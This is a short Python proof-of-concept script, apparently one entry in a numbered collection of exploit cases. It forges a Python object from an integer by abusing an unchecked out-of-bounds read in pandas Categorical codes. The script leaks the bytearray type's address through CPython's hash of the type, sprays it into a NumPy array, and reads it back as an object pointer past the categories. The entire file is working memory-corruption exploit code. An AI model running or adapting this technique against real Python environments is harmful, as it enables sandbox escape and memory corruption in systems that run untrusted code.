# source: same as 026 (pandas Categorical codes from a look-alike object, take_nd unchecked)
# family: same family, minimal: an integer the script wrote is read as an object pointer
# goal: object forged from an integer (the bytearray type object read from an int64 array past the categories)
import argparse
import numpy as np
import pandas as pd

MASK = (1 << 64) - 1


def addr_of_type(t):
    h = hash(t) & MASK
    return ((h << 4) | (h >> 60)) & MASK


N = 3000
_codes = np.array([0], dtype=np.int64)


class Cat(argparse.Namespace):
    def __iter__(self):
        return iter(self.items)


names = [f"c{i}" for i in range(N)]
values = np.empty(N, dtype=object)
spray = np.full(N, addr_of_type(bytearray), dtype=np.int64)
values[:] = names
dt = pd.CategoricalDtype(values)
ns = Cat(dtype=dt, _codes=np.array([0, N + 2 + N // 2], dtype=np.int64), items=[])
c = pd.Categorical(ns)
print("codes:", c.codes, "categories:", len(c.categories))
got = np.asarray(c)[1]
print("object read past the categories:", got, got is bytearray)
